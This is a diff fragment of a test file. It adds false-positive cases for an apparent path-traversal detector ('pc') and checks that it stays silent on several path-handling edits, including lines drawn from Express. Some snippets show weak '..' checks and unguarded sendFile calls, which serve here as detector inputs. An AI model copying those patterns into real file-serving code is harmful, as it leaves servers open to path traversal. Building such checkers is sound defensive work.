+    expect(pc('src/routes/download.ts', ['  const file = resolveInside(FILES, name);', '  res.sendFile(file);'], ["  if (name.includes('..')) return res.status(400).end();", '  res.sendFile(path.join(FILES, name));'])).toEqual([]);
+    expect(pc('src/routes/download.ts', ["  if (path.isAbsolute(name) || name.split('/').includes('..')) return res.status(400).end();"], ["  if (name.includes('..') || path.isAbsolute(name)) return res.status(400).end();"])).toEqual([]);
+    expect(pc('src/lint/paths.ts', ['  const rel = path.relative(root, file);'], ['  const abs = path.isAbsolute(file) ? file : path.join(root, file);'])).toEqual([]);
+    expect(pc('test/download.test.ts', ['  res.sendFile(path.join(FILES, name));'], ["  if (name.includes('..')) return res.status(400).end();"])).toEqual([]);
+  });
+
+  it("stays quiet on express's absolute-path tests (694869d2aa, 0e5f2f84ea) and its redirect's relative-URL test (362c96c8c1)", () => {
+    expect(pc('lib/response.js', ['  if (!opts.root && !pathIsAbsolute(path)) {'], ['  if (!opts.root && !isAbsolute(path)) {'])).toEqual([]);
+    expect(pc('lib/view.js', ['  path = resolve(this.root, path);'], ['  if (!utils.isAbsolute(path)) path = join(this.root, path);'])).toEqual([]);
+    expect(pc('lib/response.js', ["    if ('.' == url[0]) {"], ["    if (0 == url.indexOf('./') || 0 == url.indexOf('..')) {"])).toEqual([]);
   });
 });
